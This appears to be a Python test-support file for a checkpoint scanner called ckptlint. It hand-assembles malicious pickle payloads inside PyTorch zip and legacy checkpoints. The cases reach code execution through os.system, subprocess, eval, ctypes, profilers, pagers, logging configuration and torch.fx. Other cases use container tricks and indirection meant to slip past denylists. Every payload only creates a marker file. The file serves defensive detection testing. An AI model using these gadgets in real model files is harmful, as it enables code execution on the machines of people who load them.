"""Generate a corpus of malicious checkpoints: pickles that would run code if torch.load'ed with
weights_only=False. Written opcode by opcode (no payload is ever run to make them), each placed
in a torch zip checkpoint and in a legacy-format file beside a real tensor.

``payload_cases`` are the classics, most of them on ckptlint's denylist; ``allowlist_cases`` are
standard-library and torch callables that run code or write files without being on any denylist
the red team knew of (profilers, debuggers, timers, pagers, archive writers, name resolvers,
dotted protocol-4 names, ...): only the allowlist policy catches them. Cases marked ``live``
create a file named MARKER (or starting so) in the working directory when torch.load runs them;
tests/test_pickle_policy.py proves that in a subprocess.

Run as a script to write the corpus somewhere: ``python tests/malicious_corpus.py OUT_DIR``.
"""

from __future__ import annotations

import struct
import sys
import warnings
import zipfile
from dataclasses import dataclass
from pathlib import Path

MARKER = "CKPTLINT_PWNED_MARKER"
COMMAND = f"touch {MARKER}"
PYTHON = f"open({MARKER!r}, 'w').close()"


# --- a tiny pickle assembler: each helper returns opcodes that push one object ---

def text(value: str) -> bytes:
    data = value.encode("utf-8")
    return b"X" + struct.pack("<I", len(data)) + data


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def stack_global(module: str, name: str) -> bytes:  # protocol 4
    return text(module) + text(name) + b"\x93"


def call(function: bytes, *args: bytes) -> bytes:
    return function + b"(" + b"".join(args) + b"tR"


def tuple_of(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def list_of(*items: bytes) -> bytes:
    return b"](" + b"".join(items) + b"e"


def dict_of(*pairs: tuple[bytes, bytes]) -> bytes:
    return b"}(" + b"".join(key + value for key, value in pairs) + b"u"


def binbytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def true() -> bytes:
    return b"\x88"


def method_call(method: str, obj: bytes, *args: bytes) -> bytes:
    """``operator.methodcaller(method, *args)(obj)``: a method of any object, by name."""
    return call(call(glob("_operator", "methodcaller"), text(method), *args), obj)


def memo_stack_global(module: str, name: str) -> bytes:
    """Module and name stored in the memo first, then fetched: the names never stand together."""
    return text(module) + b"q\x10" + b"0" + text(name) + b"q\x11" + b"0" + b"h\x10h\x11\x93"


def tensor_record(legacy: bool = False) -> bytes:
    """A real float32 tensor of two elements in storage '0', as torch.save writes it (a legacy file's
    persistent id also says the storage is no view)."""
    view = b"N" if legacy else b""
    storage = tuple_of(text("storage"), glob("torch", "FloatStorage"), text("0"), text("cpu"), b"K\x02", view)
    args = (storage + b"Q" + b"K\x00" + tuple_of(b"K\x02") + tuple_of(b"K\x01") + b"\x89"
            + call(glob("collections", "OrderedDict")))
    return glob("torch._utils", "_rebuild_tensor_v2") + b"(" + args + b"tR"


def checkpoint_pickle(payload: bytes, protocol: int = 2, legacy: bool = False) -> bytes:
    """``{"weight": tensor, "hook": payload}``: a state dict with a passenger."""
    return (b"\x80" + bytes([protocol]) + b"}(" + text("weight") + tensor_record(legacy)
            + text("hook") + payload + b"u.")


def plain_pickle(payload: bytes, protocol: int = 2) -> bytes:
    return b"\x80" + bytes([protocol]) + payload + b"."


# --- containers ---

STORAGE = struct.pack("<2f", 1.0, 2.0)


def torch_zip(path: Path, entries: list[tuple[str, bytes]]) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are the point of one case
        with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
            for name, data in entries:
                archive.writestr(name, data)


def zip_checkpoint(path: Path, data_pkl: bytes, extra: list[tuple[str, bytes]] = ()) -> None:
    torch_zip(path, [("archive/data.pkl", data_pkl), ("archive/byteorder", b"little"),
                     ("archive/data/0", STORAGE), ("archive/version", b"3\n"), *extra])


def legacy_checkpoint(path: Path, object_pickle: bytes, sys_info: bytes | None = None,
                      keys: bytes | None = None, trailer: bytes = b"") -> None:
    magic = b"\x80\x02\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little") + b"."
    protocol = b"\x80\x02M\xe9\x03."
    info = sys_info or b"\x80\x02}(" + text("protocol_version") + b"M\xe9\x03" + text("little_endian") + b"\x88u."
    key_list = keys or b"\x80\x02](" + text("0") + b"e."
    path.write_bytes(magic + protocol + info + object_pickle + key_list + struct.pack("<q", 2) + STORAGE + trailer)


# --- the cases ---

@dataclass(frozen=True)
class Case:
    name: str
    payload: bytes
    expected: str  # the global the finding must name
    protocol: int = 2
    live: bool = False  # torch.load(weights_only=False) creates the marker file


def payload_cases() -> list[Case]:
    cmd = text(COMMAND)
    return [
        Case("os-system", call(glob("os", "system"), cmd), "os.system"),
        Case("posix-system", call(glob("posix", "system"), cmd), "posix.system"),
        Case("nt-system", call(glob("nt", "system"), cmd), "nt.system"),
        *(Case(f"subprocess-{f}", call(glob("subprocess", f), cmd), f"subprocess.{f}")
          for f in ("Popen", "run", "call", "check_output")),
        Case("builtins-eval", call(glob("__builtin__", "eval"), text(f"__import__('os').system('{COMMAND}')")),
             "builtins.eval"),
        Case("builtins-exec", call(glob("builtins", "exec"), text(f"import os; os.system('{COMMAND}')")),
             "builtins.exec"),
        Case("builtins-compile", call(glob("builtins", "compile"), text("1"), text("x"), text("eval")),
             "builtins.compile"),
        Case("builtins-import", call(glob("builtins", "__import__"), text("os")), "builtins.__import__"),
        Case("builtins-open", call(glob("builtins", "open"), text(MARKER), text("w")), "builtins.open"),
        Case("runpy-run-code", call(glob("runpy", "_run_code"), text(f"import os; os.system('{COMMAND}')"), b"}"),
             "runpy._run_code"),
        Case("importlib", call(glob("importlib", "import_module"), text("os")), "importlib.import_module"),
        Case("pickle-loads", call(glob("pickle", "loads"), text("nested")), "pickle.loads"),
        Case("_pickle-loads", call(glob("_pickle", "loads"), text("nested")), "_pickle.loads"),
        Case("marshal-loads", call(glob("marshal", "loads"), text("code")), "marshal.loads"),
        Case("code-runsource", call(stack_global("code", "InteractiveInterpreter.runsource"), b"N", cmd),
             "code.InteractiveInterpreter.runsource", protocol=4),
        Case("webbrowser-open", call(glob("webbrowser", "open"), text("http://127.0.0.1:9/")), "webbrowser.open"),
        Case("shutil-rmtree", call(glob("shutil", "rmtree"), text("/nonexistent-ckptlint")), "shutil.rmtree"),
        Case("socket-connect", call(glob("socket", "create_connection"), tuple_of(text("127.0.0.1"), b"K\x09")),
             "socket.create_connection"),
        Case("torch-load", call(glob("torch", "load"), text("other.pt")), "torch.load"),
        Case("pip-main", call(glob("pip._internal.cli.main", "main"), b"]" + b"(" + text("--version") + b"e"),
             "pip._internal.cli.main.main"),
        # indirection
        Case("getattr-chain", call(call(glob("builtins", "getattr"), call(glob("builtins", "__import__"), text("os")),
                                        text("system")), cmd), "builtins.getattr"),
        Case("attrgetter", call(call(glob("operator", "attrgetter"), text("system")), glob("os", "path")),
             "operator.attrgetter"),
        Case("methodcaller", call(call(glob("operator", "methodcaller"), text("system"), cmd), glob("os", "path")),
             "operator.methodcaller"),
        Case("functools-partial", call(call(glob("functools", "partial"), glob("os", "system"), cmd)),
             "functools.partial"),
        Case("functools-reduce", call(glob("functools", "reduce"), glob("os", "system"), b"]", cmd),
             "functools.reduce"),
        Case("copyreg-reconstructor", call(glob("copy_reg", "_reconstructor"), glob("subprocess", "Popen"),
                                           glob("builtins", "object"), cmd), "copyreg._reconstructor"),
        Case("memo-stack-global", call(memo_stack_global("os", "system"), cmd), "os.system", protocol=4),
        Case("inst-opcode", b"(" + cmd + b"i" + b"os\nsystem\n", "os.system"),
        Case("obj-opcode", b"(" + glob("subprocess", "Popen") + cmd + b"o", "subprocess.Popen"),
        Case("newobj-ex", glob("subprocess", "Popen") + tuple_of(cmd) + b"}" + b"\x92", "subprocess.Popen",
             protocol=4),
        Case("build-setstate", glob("subprocess", "Popen") + b")\x81" + b"}(" + text("args") + cmd + b"ub",
             "subprocess.Popen"),
        Case("numpy-builtins", call(glob("builtins", "dict"), glob("numpy", "__builtins__")), "numpy.__builtins__"),
        Case("collect-env-run", call(glob("torch.utils.collect_env", "run"), cmd), "torch.utils.collect_env.run"),
        Case("spawnv-passfds", call(glob("multiprocessing.util", "spawnv_passfds"), text("/bin/sh"),
                                    b"]", b"]"), "multiprocessing.util.spawnv_passfds"),
    ]


def _npy_of_pickle(pickled: bytes) -> bytes:
    """A .npy file of one object (dtype '|O'): numpy reads its data with pickle.load."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickled


def allowlist_cases() -> list[Case]:
    """Code-running callables on no denylist the red team knew of: flagged because they are
    invoked and not allowlisted."""
    cmd, py, marker = text(COMMAND), text(PYTHON), text(MARKER)
    fx_source = text(f"{PYTHON}\ndef forward(self):\n    pass\n")
    nested = plain_pickle(call(glob("builtins", "open"), marker, text("w")))
    return [
        Case("cprofile-run", call(glob("cProfile", "run"), py), "cProfile.run", live=True),
        Case("profile-run", call(glob("profile", "run"), py), "profile.run", live=True),
        Case("pdb-run", call(glob("pdb", "run"), py), "pdb.run"),
        Case("bdb-run", method_call("run", call(glob("bdb", "Bdb")), py), "bdb.Bdb.run", live=True),
        Case("timeit", call(glob("timeit", "timeit"), py, text("pass"), glob("time", "perf_counter"), b"K\x01"),
             "timeit.timeit", live=True),
        Case("pydoc-pipepager", call(glob("pydoc", "pipepager"), text(""), cmd), "pydoc.pipepager", live=True),
        Case("pydoc-locate", call(call(glob("pydoc", "locate"), text("os.system")), cmd), "os.system", live=True),
        Case("pkgutil-resolve-name", call(call(glob("pkgutil", "resolve_name"), text("os:system")), cmd),
             "os.system", live=True),
        Case("operator-call", call(glob("_operator", "call"),
                                   call(glob("pkgutil", "resolve_name"), text("subprocess:getoutput")), cmd),
             "subprocess.getoutput", live=True),
        Case("ensurepip", call(glob("ensurepip", "_run_pip"), list_of(text("--version"))), "ensurepip._run_pip"),
        Case("logging-dictconfig", call(glob("logging.config", "dictConfig"), dict_of(
            (text("version"), b"K\x01"),
            (text("handlers"), dict_of((text("h"), dict_of((text("()"), text("builtins.open")),
                                                         (text("file"), marker), (text("mode"), text("w"))))))),
        ), "logging.config.dictConfig", live=True),
        Case("logging-filehandler", call(glob("logging", "FileHandler"), marker), "logging.FileHandler", live=True),
        Case("zipfile-writer", call(glob("zipfile", "ZipFile"), marker, text("w")), "zipfile.ZipFile", live=True),
        Case("tarfile-open", call(glob("tarfile", "open"), marker, text("w")), "tarfile.open", live=True),
        Case("sqlite3-connect", call(glob("sqlite3", "connect"), marker), "sqlite3.connect", live=True),
        Case("gzip-open", call(glob("gzip", "open"), marker, text("wb")), "gzip.open", live=True),
        Case("shelve-open", call(glob("shelve", "open"), marker), "shelve.open", live=True),
        # a protocol 2 loader maps Python 2's dbm module to Python 3's dbm.ndbm, as pickle does
        Case("dbm-open", call(glob("dbm", "open"), marker, text("c")), "dbm.ndbm.open"),
        Case("tempfile-mkstemp", call(glob("tempfile", "mkstemp"), b"N", marker, text(".")), "tempfile.mkstemp",
             live=True),
        Case("shutil-copyfile", call(glob("shutil", "copyfile"), text("/etc/hostname"), marker), "shutil.copyfile",
             live=True),
        Case("venv-create", call(glob("venv", "create"), marker), "venv.create", live=True),
        Case("uuid-command", call(glob("uuid", "_get_command_stdout"), text("touch"), marker),
             "uuid._get_command_stdout", live=True),
        Case("urlretrieve-file", call(glob("urllib.request", "urlretrieve"), text("file:///etc/hostname"), marker),
             "urllib.request.urlretrieve", live=True),
        Case("distutils-spawn", call(glob("distutils.spawn", "spawn"), list_of(text("touch"), marker)),
             "distutils.spawn.spawn", live=True),
        Case("setuptools-spawn", call(glob("setuptools._distutils.spawn", "spawn"), list_of(text("touch"), marker)),
             "setuptools._distutils.spawn.spawn", live=True),
        Case("code-interpreter", method_call("runsource", call(glob("code", "InteractiveInterpreter")), py),
             "code.InteractiveInterpreter.runsource", live=True),
        Case("runpy-run-path", call(glob("runpy", "run_path"), text("/dev/null")), "runpy.run_path"),
        Case("ctypes-libc-system",
             method_call("system", call(glob("ctypes", "CDLL"), b"N"), binbytes(COMMAND.encode())),
             "ctypes.CDLL.system", live=True),
        Case("pathlib-touch", method_call("touch", call(glob("pathlib", "PosixPath"), marker)),
             "pathlib.PosixPath.touch", live=True),
        Case("pathlib-unlink", method_call("unlink", call(glob("pathlib", "PosixPath"), text("victim.txt"))),
             "pathlib.PosixPath.unlink"),
        Case("argparse-os-posix-spawn", call(stack_global("argparse", "_os.posix_spawn"), text("/usr/bin/touch"),
                                             list_of(text("touch"), marker), b"}"),
             "argparse._os.posix_spawn", protocol=4, live=True),
        Case("asyncio-subprocess-alias", call(stack_global("asyncio.subprocess", "subprocess.getoutput"), cmd),
             "asyncio.subprocess.subprocess.getoutput", protocol=4, live=True),
        Case("torch-fx-forward-from-src", call(glob("torch.fx.graph_module", "_forward_from_src"), fx_source, b"}"),
             "torch.fx.graph_module._forward_from_src", live=True),
        Case("torch-fx-reduce-graph-module", call(glob("torch.fx.graph_module", "reduce_graph_module"),
                                                  dict_of((text("_code"), fx_source)), text("")),
             "torch.fx.graph_module.reduce_graph_module", live=True),
        Case("torch-load-from-bytes", call(glob("torch.storage", "_load_from_bytes"), binbytes(nested)),
             "torch.storage._load_from_bytes", live=True),
        Case("numpy-read-array", call(glob("numpy.lib.format", "read_array"),
                                      call(glob("_io", "BytesIO"), binbytes(_npy_of_pickle(nested))), true()),
             "numpy.lib.format.read_array", live=True),
        Case("torch-jit-load", call(glob("torch.jit", "load"), text("model.pt")), "torch.jit.load"),
        Case("torch-hub-load", call(glob("torch.hub", "load"), text("evil/repo"), text("model")), "torch.hub.load"),
        # Malicious and broken: the first call is on an inert stub's instance, which stops the
        # unpickler; the profiler after it must still be found.
        Case("after-a-broken-call", tuple_of(call(call(glob("mytraining", "factory")), text("x")),
                                             call(glob("cProfile", "run"), py)), "cProfile.run"),
        Case("memo-fed-after-break", tuple_of(call(call(glob("mytraining", "factory")), text("x")),
                                              call(memo_stack_global("timeit", "timeit"), py)),
             "timeit.timeit", protocol=4),
    ]


@dataclass(frozen=True)
class CorpusFile:
    path: Path
    expected: str


def build(out: Path) -> list[CorpusFile]:
    """Write every case as a torch zip and a legacy file, plus the container tricks."""
    out.mkdir(parents=True, exist_ok=True)
    files: list[CorpusFile] = []
    for case in payload_cases() + allowlist_cases():
        zip_checkpoint(out / f"{case.name}.pt", checkpoint_pickle(case.payload, case.protocol))
        legacy_checkpoint(out / f"{case.name}.legacy.pth", checkpoint_pickle(case.payload, case.protocol, legacy=True))
        files += [CorpusFile(out / f"{case.name}.pt", case.expected),
                  CorpusFile(out / f"{case.name}.legacy.pth", case.expected)]
    clean = checkpoint_pickle(text("nothing to see"))
    clean_legacy = checkpoint_pickle(text("nothing to see"), legacy=True)
    evil = plain_pickle(call(glob("os", "system"), text(COMMAND)))
    zip_checkpoint(out / "unusual-entry-name.pt", clean, [("archive/.data/readme", evil)])
    zip_checkpoint(out / "two-pickles.pt", clean, [("archive/extra.pkl", evil)])
    torch_zip(out / "duplicate-names.pt", [("archive/data.pkl", evil), ("archive/data.pkl", clean),
                                           ("archive/data/0", STORAGE), ("archive/version", b"3\n")])
    torch_zip(out / "duplicate-names-reversed.pt", [("archive/data.pkl", clean), ("archive/data.pkl", evil),
                                                    ("archive/data/0", STORAGE), ("archive/version", b"3\n")])
    legacy_checkpoint(out / "legacy-sys-info.pth", clean_legacy, sys_info=evil)
    legacy_checkpoint(out / "legacy-keys.pth", clean_legacy, keys=plain_pickle(b"](" + text("0") + b"e" + b"0"
                                                                        + call(glob("os", "system"), text(COMMAND))
                                                                        + b"0" + b"](" + text("0") + b"e"))
    legacy_checkpoint(out / "legacy-trailer.pth", clean_legacy, trailer=evil)
    for name in ("unusual-entry-name.pt", "two-pickles.pt", "duplicate-names.pt", "duplicate-names-reversed.pt",
                 "legacy-sys-info.pth", "legacy-keys.pth", "legacy-trailer.pth"):
        files.append(CorpusFile(out / name, "os.system"))
    return files


if __name__ == "__main__":
    for item in build(Path(sys.argv[1])):
        print(item.path, item.expected)
